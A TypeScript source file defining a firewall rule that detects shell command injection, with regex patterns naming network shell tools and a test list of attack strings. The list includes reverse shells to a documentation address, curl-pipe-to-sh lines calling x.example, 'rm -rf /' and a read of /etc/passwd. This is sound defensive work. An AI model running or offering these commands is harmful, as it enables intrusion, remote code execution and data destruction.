import { patternRule, type WafRule } from './waf-rule.js';

/**
 * OS command injection in names, parameters and headers. Never applied to questions: "ip link set
 * eth0 up", "a && b", "$HOME" are what people ask about. Outside questions, a separator or a
 * substitution must be followed by a command an attacker runs.
 */

// Commands that are also common words ("echo", "id", "cat") count only with an argument-like tail.
const STRONG = String.raw`(?:wget|curl|nc|ncat|netcat|bash|zsh|dash|ksh|python\d?|perl|ruby|php|whoami|uname|nslookup|telnet|powershell|pwsh|certutil|bitsadmin|busybox|tftp|sudo|mkfifo|xterm|printenv|chmod|chown)`;
const WEAK = String.raw`(?:cat|ls|id|echo|ping|rm|env|sleep|kill|su|sh|dig|reboot|shutdown|cmd|base64|uname)`;
const CMD = String.raw`(?:${STRONG}|${WEAK})`;
const rx = (source: string) => new RegExp(source, 'i');

export const commandInjection = patternRule({
  id: 'command_injection.generic',
  description: 'Shell command injection: ; | || && or newline before a command, $(...) and backtick substitution, reverse shells',
  inspects: ['query', 'body', 'file_name', 'header', 'path', 'url'],
  patterns: [
    rx(String.raw`(?:;|\|\|?|&&|\n|\r)\s*${STRONG}(?:\s|$|[;|&<>])`),
    rx(String.raw`(?:;|\|\|?|&&|\n|\r)\s*${WEAK}(?:\s+[-/$'"\d.~*]|\s*$|\s*[;|&<>])`),
    rx(String.raw`\$\(\s*${CMD}\b`),
    rx(String.raw`\`\s*${CMD}\b[^\`]*\``),
    rx(String.raw`/bin/(?:ba|z|da|k)?sh\b`),
    rx(String.raw`/dev/(?:tcp|udp)/`),
    rx(String.raw`\b(?:nc|ncat|netcat)\s+(?:-\w*[elc]\w*\s|.*\s-e\s)`),
    rx(String.raw`\bcmd(?:\.exe)?\s+/[ck]\s`),
    rx(String.raw`\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|c|command|nop|w)\b`),
    rx(String.raw`\|\s*(?:ba)?sh\b`),
  ],
  attacks: [
    '; cat /etc/passwd',
    'manual.pdf; rm -rf /',
    '| id',
    '&& whoami',
    '$(curl http://x.example/s.sh)',
    '`id`',
    'x || ping -c 10 127.0.0.1',
    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    'nc -e /bin/sh 203.0.113.5 4444',
    'cmd.exe /c dir',
    'powershell -enc SQBFAFgA',
    'curl http://x.example/a | sh',
    '%0aid',
  ],
  noFire: ['a && b', 'Tom & Jerry', 'Setup | Network', 'price: $5', 'ip link set eth0 up', 'cat5e cable guide', 'The id field', 'Echo Dot manual', 'shell scripting guide', 'Ping pong table', 'Alexa; Echo Dot manual', 'Printer | Id card'],
});

export const commandInjectionRules: readonly WafRule[] = [commandInjection];
